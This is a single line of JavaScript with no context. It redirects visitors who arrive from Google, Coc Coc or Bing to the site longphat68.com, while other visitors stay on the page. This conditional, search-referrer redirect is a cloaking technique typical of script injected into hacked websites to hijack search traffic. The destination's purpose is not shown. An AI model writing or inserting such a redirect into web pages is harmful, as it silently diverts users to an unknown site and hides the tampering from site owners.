
if(document.referrer.match(/google|coccoc|bing/)){window.location='https://longphat68.com/'}
